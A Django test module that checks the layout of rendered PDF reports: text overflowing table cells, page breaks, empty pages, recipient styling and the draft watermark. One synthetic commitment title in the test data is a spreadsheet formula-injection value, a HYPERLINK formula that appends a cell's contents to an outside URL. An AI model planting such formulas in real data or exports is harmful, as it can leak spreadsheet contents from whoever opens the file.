"""Nothing printed crosses a cell border (issue 17): pdfplumber reads every character box and the
table rules of the rendered report, on long real values and on synthetic worst cases."""

import io
import re
from decimal import Decimal

import pdfplumber
from django.test import TestCase

from commitments.models import Commitment
from reports.documents import build_document, render_report_html
from reports.figures import CityFigures, Scope, load_rows
from reports.models import Report
from reports.pdf import html_to_pdf, render_parts
from tests import factories
from tests.reports.pdftools import WATERMARK_GREY
from tests.reports.programme import Programme

TOLERANCE = 0.6  # points: the rule's own half width
KERNING = 2.0  # points two neighbouring glyph boxes may share ("Va" at 10 pt: 1.1)


def crossings(content: bytes) -> tuple[int, list[str]]:
    """(characters checked inside tables, those that stick out of their cell) over every page."""
    checked, bad = 0, []
    with pdfplumber.open(io.BytesIO(content)) as pdf:
        for number, page in enumerate(pdf.pages, start=1):
            for table in page.find_tables():
                cells = [cell for cell in table.cells if cell]
                x0, top, x1, bottom = table.bbox
                for char in page.chars:
                    if not char["text"].strip():
                        continue
                    cx, cy = (char["x0"] + char["x1"]) / 2, (char["top"] + char["bottom"]) / 2
                    if not (x0 <= cx <= x1 and top <= cy <= bottom):
                        continue
                    checked += 1
                    home = [c for c in cells if c[0] <= cx <= c[2] and c[1] <= cy <= c[3]]
                    if not home:
                        bad.append(f"page {number}: {char['text']!r} at {cx:.0f},{cy:.0f} is in no cell")
                        continue
                    cell = min(home, key=lambda c: (c[2] - c[0]) * (c[3] - c[1]))
                    if char["x0"] < cell[0] - TOLERANCE or char["x1"] > cell[2] + TOLERANCE:
                        bad.append(f"page {number}: {char['text']!r} crosses the rule at x={cell[0]:.0f}–{cell[2]:.0f}")
                    # A rule running through the character, whichever cell its centre fell in.
                    for edge in {c[0] for c in cells} | {c[2] for c in cells}:
                        if char["x0"] + TOLERANCE < edge < char["x1"] - TOLERANCE:
                            bad.append(f"page {number}: {char['text']!r} drawn over the rule at x={edge:.0f}")
                # Text printed over the next cell's text: two characters of one line overlapping.
                inside = sorted(
                    (c for c in page.chars if c["text"].strip() and x0 <= c["x0"] <= x1 and top <= c["top"] <= bottom),
                    key=lambda c: (round(c["top"]), c["x0"]),
                )
                for before, after in zip(inside, inside[1:], strict=False):
                    same_line = abs(before["top"] - after["top"]) < 1
                    # Left to right on one line (a smaller font may sit a little lower: a new line starts left).
                    if same_line and before["x0"] <= after["x0"] < before["x1"] - KERNING:
                        bad.append(f"page {number}: {before['text']!r} and {after['text']!r} overlap")
    return checked, bad


def page_sizes(content: bytes) -> list[str]:
    with pdfplumber.open(io.BytesIO(content)) as pdf:
        return ["landscape" if page.width > page.height else "portrait" for page in pdf.pages]


class OverflowTests(TestCase):
    @classmethod
    def setUpTestData(cls):
        cls.programme = Programme.build()
        world = cls.programme.world
        # Synthetic worst cases: a 300-character title, a long unit name, a 12-digit amount, a huge quantity.
        long_name = "Đơn vị hành chính đặc biệt có tên rất dài để thử bảng biểu Nguyễn Thị Minh Khai"
        world.supporter.name = long_name
        world.supporter.save(update_fields=["name"])
        factories.commitment(
            partnership=world.partnership,
            field=cls.programme.housing,
            title=(
                "Hỗ trợ xây dựng nhà đại đoàn kết, sửa chữa nhà ở cho hộ nghèo, hộ cận nghèo, gia đình chính sách "
                "và đồng bào dân tộc thiểu số có hoàn cảnh đặc biệt khó khăn tại các thôn vùng sâu, vùng xa, "
                "biên giới của xã, bảo đảm an toàn trước mùa mưa bão năm 2025–2026 theo chương trình kết nghĩa."
            )[:300],
            target_quantity=Decimal("123456789"),
            target_unit="lượt người được khám, cấp thuốc",
            target_value_vnd=12_345_678_901,
        )
        factories.commitment(
            partnership=world.partnership,
            field=cls.programme.health,
            title='=HYPERLINK("http://example.com"&A1,"x") ' + "Khámchữabệnhkhôngcódấucách" * 4,
            target_value_vnd=999_999_999_999,
        )
        cls.assertion_count = Commitment.objects.count()

    def render(self, report: Report, scope: Scope) -> bytes:
        figures = CityFigures.build(load_rows(period=self.programme.q4), scope)
        return html_to_pdf(render_report_html(report, figures))

    def test_no_character_crosses_a_cell_border_in_any_report_kind(self):
        world = self.programme.world
        cases = [
            (Report(period=self.programme.q4, kind=Report.Kind.CITY), Scope()),
            (
                Report(period=self.programme.q4, kind=Report.Kind.PARTNERSHIP, partnership=world.partnership),
                Scope(partnership_id=world.partnership.pk),
            ),
            (
                Report(period=self.programme.q4, kind=Report.Kind.UNIT, commune=world.supporter),
                Scope(commune_code=world.supporter.code),
            ),
        ]
        total = 0
        for report, scope in cases:
            content = self.render(report, scope)
            checked, bad = crossings(content)
            with self.subTest(kind=report.kind):
                self.assertGreater(checked, 500)
                self.assertEqual(bad, [])
            total += checked
        self.assertGreater(total, 3000)

    def test_wide_appendices_are_landscape_and_the_text_portrait(self):
        content = self.render(Report(period=self.programme.q4, kind=Report.Kind.CITY), Scope())
        sizes = page_sizes(content)
        self.assertEqual(sizes[0], "portrait")
        self.assertIn("landscape", sizes)
        self.assertEqual(sizes[-1], "portrait")  # the map

    def test_the_checker_sees_a_crossing(self):
        """The test can fail: a table with a fixed narrow column and unbreakable text is caught."""
        html = (
            '<html><body><table style="border-collapse:collapse;table-layout:fixed;width:100mm">'
            '<col style="width:15mm"><col style="width:85mm"><tr>'
            '<td style="border:0.6pt solid #000;white-space:nowrap">12.345.678.901 đ</td>'
            '<td style="border:0.6pt solid #000">Đã thực hiện</td></tr></table></body></html>'
        )
        checked, bad = crossings(html_to_pdf(html))
        self.assertGreater(checked, 10)
        self.assertTrue(bad)

    def test_the_draft_watermark_is_not_text(self):
        content = self.render(Report(period=self.programme.q4, kind=Report.Kind.CITY), Scope())
        with pdfplumber.open(io.BytesIO(content)) as pdf:
            texts = [page.extract_text() or "" for page in pdf.pages]
        # The stamp at the top of page 1 is the only "DỰ THẢO" in the text layer.
        self.assertEqual(sum(len(re.findall("DỰ THẢO", text)) for text in texts), 1)
        self.assertEqual(len(texts), len(page_sizes(content)))


HEADING = re.compile(r"^((I|II|III|IV)\. |\d+\. |\d+\.\d+\. |[ab]\) )")


def last_lines(content: bytes) -> list[str]:
    """Per portrait text page, its last line of text (the page number sits at the top)."""
    lines = []
    with pdfplumber.open(io.BytesIO(content)) as pdf:
        for page in pdf.pages:
            if page.width > page.height:
                continue
            text = [line for line in (page.extract_text() or "").splitlines() if line.strip()]
            if text:
                lines.append(text[-1].strip())
    return lines


class PageBreakTests(TestCase):
    @classmethod
    def setUpTestData(cls):
        cls.programme = Programme.build()
        world = cls.programme.world
        # Enough text for several pages: many fields with a few commitments each.
        for index in range(12):
            field = factories.field(
                name=f"Lĩnh vực thử số {index} về hỗ trợ phát triển", code=f"f-{index}", order=10 + index
            )
            for number in range(2):
                factories.commitment(partnership=world.partnership, field=field, title=f"Nội dung {index}.{number}")

    def test_no_heading_or_lead_in_ends_a_page_and_the_signature_keeps_its_paragraph(self):
        report = Report(period=self.programme.q4, kind=Report.Kind.CITY)
        figures = CityFigures.build(load_rows(period=self.programme.q4), Scope())
        content = html_to_pdf(render_report_html(report, figures))
        with pdfplumber.open(io.BytesIO(content)) as pdf:
            texts = [page.extract_text() or "" for page in pdf.pages]
        body_pages = [i for i, text in enumerate(texts) if "PHỤ LỤC" not in text]
        self.assertGreaterEqual(len(body_pages), 3)
        for line in last_lines(content)[: len(body_pages) - 1]:
            self.assertFalse(HEADING.match(line), f"a heading ends a page: {line!r}")
            self.assertFalse(line.endswith(":"), f"a lead-in ends a page: {line!r}")
        signature_page = next(i for i, text in enumerate(texts) if "T/M BAN THƯỜNG VỤ" in text)
        self.assertIn("Đề nghị Ủy ban nhân dân thành phố", texts[signature_page])  # the last paragraph

    def test_recipients_are_set_in_the_style_the_setting_names(self):
        """ "Nơi nhận" as most Party committees print it (upright, underlined, 14 pt; list 12 pt) or as
        Hướng dẫn 36-HD sets it (bold italic 12 pt; list 11 pt)."""
        report = Report(period=self.programme.q4, kind=Report.Kind.CITY)
        figures = CityFigures.build(load_rows(period=self.programme.q4), Scope())
        expected = {"upright": ("Report-Serif", 14, 12, True), "hd36": ("Report-Serif-Bold-Italic", 12, 11, True)}
        for style, (face, size, list_size, underlined) in expected.items():
            with self.subTest(style=style), self.settings(REPORT_RECIPIENTS_STYLE=style):
                content = html_to_pdf(render_report_html(report, figures))
                with pdfplumber.open(io.BytesIO(content)) as pdf:
                    page = next(page for page in pdf.pages if page.search("Nơi nhận:"))
                    title = page.search("Nơi nhận:", return_chars=True)[0]
                    first = page.search("- Ban Bí thư", return_chars=True)[0]
                    rules = [  # the underline: a rule under the whole title, above the next line
                        r
                        for r in page.lines + page.rects
                        if title["top"] < r["top"] < title["bottom"] + 2
                        and r["x0"] <= title["x0"] + 1
                        and r["x1"] >= title["x1"] - 1
                    ]
                self.assertEqual({c["fontname"].split("+")[-1] for c in title["chars"]}, {face})
                self.assertEqual({round(c["size"]) for c in title["chars"]}, {size})
                self.assertEqual({round(c["size"]) for c in first["chars"]}, {list_size})
                self.assertEqual(bool(rules), underlined)

    def test_the_checker_sees_a_heading_at_a_page_foot(self):
        # A heading set as a plain paragraph (no "break-after: avoid") just above the page foot.
        html = (
            '<html><body><div style="height:244mm"></div><p style="margin:0">2. Kết quả theo lĩnh vực</p>'
            '<p style="margin:0;orphans:3">' + "Nội dung. " * 400 + "</p></body></html>"
        )
        self.assertTrue(HEADING.match(last_lines(html_to_pdf(html))[0]))


MM = 72 / 25.4
MARGIN_MM = 20  # top and bottom (Hướng dẫn 36-HD/VPTW, reports.conf)
MOST_EMPTY = 1 / 3  # of a page's text area, below its last line, on a page that does not end a flow


def empty_shares(content: bytes) -> list[tuple[float, bool]]:
    """Per page: (share of its text area left empty below the last thing printed, whether it ends a flow).

    A page ends a flow when it is the last one or the next starts an appendix ("PHỤ LỤC" on a page of
    its own, as every appendix does). The page number in the top margin and the watermark (an image)
    do not count as content.
    """
    pages = []
    with pdfplumber.open(io.BytesIO(content)) as pdf:
        for page in pdf.pages:
            top, foot = MARGIN_MM * MM, page.height - MARGIN_MM * MM
            marks = [c for c in page.chars if c["text"].strip() and c["top"] >= top - 1]
            marks += [
                shape
                for shape in page.rects + page.lines + page.curves
                if shape["top"] >= top - 1 and not is_watermark(shape)
            ]
            lowest = max((mark["bottom"] for mark in marks), default=top)
            lines = [line for line in (page.extract_text() or "").splitlines() if not line.strip().isdigit()]
            first_line = next(iter(lines), "")  # below the page number
            pages.append(((foot - lowest) / (foot - top), first_line))
    return [
        (share, number == len(pages) - 1 or "PHỤ LỤC" in pages[number + 1][1])
        for number, (share, _line) in enumerate(pages)
    ]


def is_watermark(shape: dict) -> bool:
    colour = shape.get("non_stroking_color")
    return (
        isinstance(colour, tuple)
        and len(colour) == 3
        and all(abs(a - b) < 0.01 for a, b in zip(colour, WATERMARK_GREY, strict=True))
    )


def too_empty(content: bytes) -> list[str]:
    """Pages more than a third empty inside a flow, and blank pages anywhere."""
    bad = []
    for number, (share, ends_flow) in enumerate(empty_shares(content), start=1):
        if share > 0.99 or (share > MOST_EMPTY and not ends_flow):
            bad.append(f"page {number}: {share:.0%} of its text area empty")
    return bad


class PageFillTests(TestCase):
    """No page is a third empty except where a flow ends (before an appendix, the last page); none is blank."""

    @classmethod
    def setUpTestData(cls):
        cls.programme = Programme.build()
        world = cls.programme.world
        # Enough text for several pages (as in PageBreakTests), and a partnership with nothing agreed yet.
        for index in range(12):
            field = factories.field(name=f"Lĩnh vực thử số {index} về hỗ trợ", code=f"f-{index}", order=10 + index)
            for number in range(2):
                factories.commitment(partnership=world.partnership, field=field, title=f"Nội dung {index}.{number}")
        cls.empty_partnership = factories.partnership(
            supported=cls.programme.unpaired_supported, supporters=[world.supporter, world.outsider]
        )

    def render_split(self, report: Report, scope: Scope) -> bytes:
        """As the worker renders a report: in parts, joined (the path that once added a blank page)."""
        figures = CityFigures.build(load_rows(period=self.programme.q4), scope)
        return render_parts(build_document(report, figures, split=True).parts).content

    def test_no_page_is_a_third_empty_inside_a_flow_or_blank(self):
        world = self.programme.world
        q4 = self.programme.q4
        cases = [
            (Report(period=q4, kind=Report.Kind.CITY), Scope()),
            (
                Report(period=q4, kind=Report.Kind.PARTNERSHIP, partnership=world.partnership),
                Scope(partnership_id=world.partnership.pk),
            ),
            (
                Report(period=q4, kind=Report.Kind.PARTNERSHIP, partnership=self.empty_partnership),
                Scope(partnership_id=self.empty_partnership.pk),
            ),
            (
                Report(period=q4, kind=Report.Kind.UNIT, commune=world.supporter),
                Scope(commune_code=world.supporter.code),
            ),
        ]
        for report, scope in cases:
            content = self.render_split(report, scope)
            with self.subTest(kind=report.kind, scope=scope):
                self.assertGreaterEqual(len(empty_shares(content)), 2)
                self.assertEqual(too_empty(content), [])

    def test_the_checker_sees_a_half_empty_page_and_a_blank_one(self):
        # Page 1 half empty in the middle of the text, page 2 blank, page 3 an appendix (a flow's end is exempt).
        html = (
            "<html><head><style>@page { size: A4; margin: 20mm 15mm 20mm 30mm }</style></head><body>"
            + "<p>Nội dung báo cáo.</p>" * 12
            + '<div style="break-before:page"></div><p style="break-before:page">PHỤ LỤC 1</p></body></html>'
        )
        self.assertEqual([line.split(":")[0] for line in too_empty(html_to_pdf(html))], ["page 1", "page 2"])


def test_the_watermark_file_is_what_the_code_draws():
    """static/fonts/draft-watermark.svg is written by reports.documents.watermark_svg (outlines, no text)."""
    from reports.documents import ASSETS_DIR, WATERMARK_FILE, watermark_svg

    stored = (ASSETS_DIR / WATERMARK_FILE).read_text(encoding="utf-8")
    assert stored == watermark_svg()
    assert "<text" not in stored and stored.count("<path") >= 6
